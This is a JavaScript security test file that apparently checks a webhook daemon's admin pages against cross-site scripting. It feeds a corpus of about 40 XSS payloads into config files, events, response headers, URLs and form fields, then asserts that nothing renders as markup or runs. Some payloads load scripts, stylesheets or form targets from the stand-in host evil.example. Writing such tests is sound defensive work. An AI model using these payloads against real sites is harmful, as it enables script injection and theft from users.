// Text that would like to be a script, put into everything that an endpoint, an event, an answer, a file or an address
// controls. None of it may run, be an element, or even be refused by the policy: it is text.
import assert from "node:assert/strict";
import { endpoint } from "./others.mjs";
import { browser, daemon, until } from "./support.mjs";

/** Each says which one it was, should it run: elements, ends of what text may stand in, attributes, addresses, templates,
 * styles, entities, other alphabets, and what only some parsers take for a sign. */
export const CORPUS = [
  "<script>alert(1)</script>",
  "\"><img src=x onerror=alert(2)>",
  "' onfocus=alert(3) autofocus='",
  "</textarea></pre></title><svg onload=alert(4)>",
  "<iframe srcdoc='<script>parent.alert(5)</script>'></iframe>",
  "javascript:alert(6)",
  "<a href=\"javascript:alert(7)\">click</a>",
  "]]>--><script>alert(8)</script><!--",
  "{{constructor.constructor('alert(9)')()}}",
  "&lt;script&gt;alert(10)&lt;/script&gt;",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(12)'><base href=//evil.example/>",
  "<style>@import '//evil.example/x.css'</style><link rel=stylesheet href=//evil.example/y.css>",
  "<form action=//evil.example><button>Save and Activate</button></form>",
  "\u2028alert(15)\u2029<script\u00a0>alert(15)</script>",
  "<scr\u0000ipt>alert(16)</script>",
  "</script><script>alert(17)</script>",
  "</style></noscript></template></select></option><img src=x onerror=alert(18)>",
  "<ScRiPt/x>alert(19)</sCrIpT\t>",
  "<img/src=x/onerror=alert(20)>",
  "<svg><animate onbegin=alert(21) attributeName=x dur=1s>",
  "<details open ontoggle=alert(22)><summary>x</summary></details>",
  "<input autofocus onfocus=alert(23)><select autofocus onfocus=alert(23)>",
  "<body onload=alert(24)><video><source onerror=alert(24)></video>",
  "<object data='data:text/html,<script>alert(25)</script>'></object><embed src=javascript:alert(25)>",
  "\" style=\"background:url(javascript:alert(26));position:fixed;inset:0\" x=\"",
  "` onmouseover=alert(27) x=`",
  "<svg><script>alert&#40;28)</script></svg><svg><use href='data:image/svg+xml,<svg onload=alert(28)>'/></svg>",
  "&#60;script&#62;alert(29)&#60;/script&#62; &quot;&gt;&lt;img src=x onerror=alert(29)&gt;",
  "\uff1cscript\uff1ealert(30)\uff1c/script\uff1e",
  "+ADw-script+AD4-alert(31)+ADw-/script+AD4-",
  "\u202e>tpircs/<)23(trela>tpircs<",
  "<a href='data:text/html,<script>alert(33)</script>'>x</a><area href=javascript:alert(33)>",
  "java\tscript:alert(34)",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(35)>\">",
  "<template><script>alert(36)</script></template><slot onslotchange=alert(36)>",
  "${alert(37)}#{alert(37)}<%= alert(37) %>",
  "<x onclick=alert(38) tabindex=0 accesskey=x>x</x><marquee onstart=alert(38)>",
  "<!--<img src='--><img src=x onerror=alert(39)//'>",
  "\ufeff<script src=//evil.example/z.js></script>",
];

/** Nothing on the page was made from the corpus. */
async function clean(page, where) {
  const found = await page.evaluate(() => {
    const wrong = [...document.querySelectorAll("iframe, object, embed, base, img, math, style, noscript, template, slot, marquee, x, area, video, source, animate, use, meta[http-equiv], svg[onload], [style*='url('], a[href^='javascript:' i], a[href^='data:' i], form[action*='evil'], link[href*='evil'], [autofocus][onfocus]")];
    const scripts = [...document.scripts].filter((script) => !script.src.includes("/assets/"));
    const handlers = [...document.querySelectorAll("*")].filter((node) => [...node.attributes].some((attribute) => attribute.name.startsWith("on")));
    return [...wrong, ...scripts, ...handlers].map((node) => node.outerHTML.slice(0, 120));
  });
  assert.deepEqual(found, [], where);
  assert.deepEqual(await page.evaluate(() => window.violations), [], where);
}

export async function hostile({ site, server, page }) {
  const dialogs = [];
  const heard = (dialog) => { dialogs.push(`${dialog.message()} at ${page.url()}`); dialog.dismiss(); };
  page.on("dialog", heard);
  await page.addInitScript(() => {
    window.violations = [];
    addEventListener("securitypolicyviolation", (event) => window.violations.push(`${event.violatedDirective}: ${event.blockedURI}`));
  });
  const all = CORPUS.join(" ");
  const some = (allowed) => all.replaceAll(allowed, "");
  const visit = async (path) => { await page.goto(site.origin + path); await clean(page, path); };

  // What an endpoint's file controls: a comment, a header, its filter, its URL; and a file that is rejected for it.
  const toml = (text) => JSON.stringify(text.replaceAll("\u0000", "").replaceAll("\u2028", "").replaceAll("\u2029", ""));
  const quoted = JSON.stringify(all.replaceAll(/[\u0000\u2028\u2029"\\]/g, "").slice(0, 1500));
  site.write("hostile.toml", `# ${all.replaceAll(/[\u0000\n]/g, "")}
events = "all"
products = "all"
filter = ${toml(`data.message_id != ${quoted}`)}
keep_answer = true
[http]
url = "${server.url("/hostile")}?q=%3Cscript%3Ealert(20)%3C/script%3E'%22onload=alert(21)"
auth = { basic = { username = ${toml(some(/[\u0000-\u001f:]/g))}, password = "p" } }
headers = { x-team = ${toml(some(/[^\x20-\x7e]/g).slice(0, 4000))} }
[retry]
schedule = ["1ms"]
`);
  site.write("rejected.toml", `events = [${CORPUS.map(toml).join(", ")}]\n${toml(all)} = 1\n`);
  // A file of the operator's: its name, an account, what a secret is read from, a line that is no TOML.
  const file = "<img src=x onerror=alert(41)>.toml";
  site.write(file, "events = 1\n");
  site.write("account.toml", `account = ${toml(all)}\nfilter = ${toml(all)}\n[http]\nurl = ${toml(CORPUS[1])}\nauth = { basic = { credentials = { file = ${toml(CORPUS[0])} } } }\n[${toml(CORPUS[3])}]\n`);
  site.write("syntax.toml", `events = ${some(/[\u0000\n"']/g)}\n`);
  await until("the hostile endpoint is there", async () => (await site.status("hostile"))?.state === "active");

  // What an answer controls: its body, its headers; what an event controls: everything in it.
  const target = server.any("/hostile");
  const header = (text) => text.replaceAll(/[^\t\x20-\x7e]/g, "");
  const headers = Object.fromEntries(CORPUS.map((text, n) => [`x-evil-${n}`, header(text)]));
  Object.assign(target, {
    status: 410, reason: header(all), body: all,
    headers: { ...headers, "content-type": "text/html; charset=utf-7", "www-authenticate": header(CORPUS[1]), location: CORPUS[5], "retry-after": header(CORPUS[0]), "set-cookie": header(CORPUS[2]), refresh: "0;url=javascript:alert(40)", link: "<//evil.example/x.css>; rel=stylesheet" },
  });
  await site.post(CORPUS.map((text, n) => ({
    id: text.replaceAll("\u0000", ""), event: "sent", product: "crm", account: `a${n}`,
    data: { message_id: text, status: text, details: { [text]: text } },
  })));
  // What is refused is answered to the publisher, and counted; it must not come back on a page either.
  for (const text of CORPUS) {
    const refused = [{ event: text }, { product: text }, { account: text }, { timestamp: text }, { id: text.repeat(20) }, { [text]: text }];
    await site.offer(refused.map((part) => ({ event: "sent", product: "crm", data: { message_id: text, status: text }, ...part })), { "idempotency-key": header(text) });
    await site.offer({ event: "sent", product: "crm", account: "keyed", data: { message_id: text, status: text } }, { "idempotency-key": header(text) });
  }
  await until("one of them is dead", async () => (await site.status("hostile")).dead > 0);

  await visit("/");
  await visit("/endpoints/hostile");
  await page.getByText("View TOML").click();
  await page.getByText("Account, filter, signing, headers").click();
  await clean(page, "the opened parts of an endpoint");
  await page.getByRole("button", { name: "Test Event" }).click();
  await page.locator("#test-result [data-verdict]").waitFor();
  for (const part of ["Request", "As curl"]) await page.locator("#test-result").getByText(part, { exact: true }).click();
  assert.match(await page.locator("#test-response").innerText(), /<script>alert\(1\)<\/script>/);
  await clean(page, "the result of a test event");
  await visit("/endpoints/rejected");
  for (const name of ["account", "syntax", "<img src=x onerror=alert(41)>"]) await visit(`/endpoints/${encodeURIComponent(name)}`);
  await visit("/reload-status");
  assert.match(await page.locator("main").innerText(), /onerror=alert\(41\)/, "the file's name is told");
  await page.getByRole("button", { name: "Check again" }).click();
  await clean(page, "checked again");
  await visit("/endpoints/hostile?ask=remove");
  await visit("/deliveries?endpoint=hostile");
  await visit("/dead-letters?endpoint=hostile&ask=replay");
  await page.goto(`${site.origin}/dead-letters?endpoint=hostile`);
  await page.getByRole("link", { name: /^Attempts of/ }).first().click();
  await page.locator(".attempt").first().waitFor();
  for (const part of await page.locator(".opened summary").all()) await part.click();
  await clean(page, "an opened dead letter");
  assert.match(await page.locator(".opened").first().innerText(), /alert\(/, "what was answered is told");
  for (const picked of (await site.letters()).slice(0, 12)) await visit(`/deliveries?open=${picked.id}`);

  // Both sides of a collision, and an endpoint that has gone.
  await page.goto(`${site.origin}/endpoints/hostile`);
  await page.getByText("Retry and limits").click();
  await page.locator("#timeout").fill("4s");
  site.write("hostile.toml", site.read("hostile.toml").replace('products = "all"', 'products = ["crm"]'));
  await until("the other edit is in force", async () => (await site.status("hostile"))?.products?.join() === "crm");
  await page.getByRole("button", { name: "Save and Activate" }).click();
  await page.getByText(/changed on disk/).first().waitFor();
  await clean(page, "both sides of a collision");

  // What an address controls, and what somebody entered that was refused.
  for (let first = 0; first < CORPUS.length; first += 4) {
    const text = CORPUS.slice(first, first + 4).join(" ");
    const one = encodeURIComponent(text);
    await visit(`/?q=${one}&state=${one}&event=${one}&done=${one}`);
    await visit(`/deliveries?endpoint=${one}&state=${one}&message_id=${one}&code=${one}&cursor=${one}&open=${one}&done=${one}`);
    await visit(`/dead-letters?endpoint=${one}&reason=${one}&message_id=${one}&cursor=${one}&ask=${one}`);
  }
  await visit(`/endpoints/${encodeURIComponent(CORPUS[0])}?done=${encodeURIComponent(CORPUS[1])}`);
  await visit(`/login?failed=${encodeURIComponent(all)}&next=${encodeURIComponent(all)}`);
  await page.goto(`${site.origin}/new`);
  await page.getByText("Account, filter, signing, headers").click();
  await page.getByText("Retry and limits").click();
  await page.getByText("Data of your own").click();
  for (const field of await page.locator("#edit input:not([type=checkbox], [type=radio], [type=hidden]), #edit textarea").all()) {
    if (await field.isVisible()) await field.fill(all);
  }
  for (const button of ["Test Event", "Save as draft"]) {
    await page.getByRole("button", { name: button, exact: true }).first().click();
    await page.locator("#summary h2").waitFor();
    await clean(page, `what was refused by ${button}`);
  }
  for (const name of ["rejected.toml", "account.toml", "syntax.toml", file, "hostile.toml"]) site.remove(name);
  await until("it is removed", async () => (await site.status("hostile"))?.state === "removed");
  await visit("/?state=removed");
  await visit("/endpoints/hostile");
  await visit("/reload-status");
  page.off("dialog", heard);
  assert.deepEqual(dialogs, []);
}

/** Names that an operator gave: of events, products, accounts and a login. Each stands on its own. */
export async function hostileNames({ server, wrong }) {
  const names = CORPUS.map((text) => text.replaceAll(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g, "").slice(0, 128)).filter((text) => text.trim());
  const list = (names) => JSON.stringify([...new Set(names)]);
  // An account of an event has no spaces.
  const [account, login] = [names[0], names[1].replaceAll(":", "")];
  const site = await daemon(`version = 1
[ingress]
listen = "127.0.0.1:0"
[admin]
listen = "127.0.0.1:0"
[[admin.login]]
username = "anna"
password = "anna-password"
[[admin.login]]
username = ${JSON.stringify(login)}
password = "their-password"
account = ${JSON.stringify(account)}
[network]
allow = ["127.0.0.0/8"]
[catalogue]
events = ${list(names)}
products = ${list(names)}
`, {
    "own.toml": endpoint(server.url("/names"), account),
    "all.toml": endpoint(server.url("/names")),
  }, { login: "anna:anna-password" });
  const window = await browser(site.origin);
  const { page } = window;
  const dialogs = [];
  page.on("dialog", (dialog) => { dialogs.push(`${dialog.message()} at ${page.url()}`); dialog.dismiss(); });
  await page.addInitScript(() => {
    window.violations = [];
    addEventListener("securitypolicyviolation", (event) => window.violations.push(`${event.violatedDirective}: ${event.blockedURI}`));
  });
  try {
    server.of("/names").status = 410;
    await site.post(names.map((name) => ({ event: name, product: name, account, data: { message_id: name, status: name } })));
    await until("both have dead letters", async () => (await Promise.all(["own", "all"].map(site.status))).every((one) => one.dead > 0));
    for (const [name, password] of [["anna", "anna-password"], [login, "their-password"]]) {
      await page.goto(`${site.origin}/login`);
      await page.getByLabel("User name").fill(name);
      await page.getByLabel("Password").fill(password);
      await page.getByRole("button", { name: "Sign in" }).click();
      await page.waitForURL(`${site.origin}/`);
      for (const path of ["/", "/new", "/endpoints/own", "/endpoints/own?ask=remove", "/deliveries?endpoint=own", "/dead-letters?endpoint=own", "/dead-letters?ask=replay"]) {
        assert.equal((await page.goto(site.origin + path)).status(), 200, path);
        await clean(page, `${path} as ${name}`);
      }
      assert.match(await page.content(), /&lt;script&gt;alert\(1\)/, "the names are there");
      await page.goto(`${site.origin}/endpoints/own`);
      await page.getByRole("button", { name: "Test Event" }).click();
      await page.locator("#test-result [data-verdict]").waitFor();
      await clean(page, `a test event as ${name}`);
      await page.goto(`${site.origin}/dead-letters?endpoint=own`);
      await page.getByRole("link", { name: /^Attempts of/ }).first().click();
      await page.locator(".attempt").first().waitFor();
      for (const part of await page.locator(".opened summary").all()) await part.click();
      await clean(page, `an opened dead letter as ${name}`);
      await page.getByRole("button", { name: "Sign out" }).click();
      await page.waitForURL(/\/login/);
    }
    assert.deepEqual(dialogs, []);
    wrong.push(...window.wrong);
  } finally {
    await window.close();
    await site.close();
  }
}
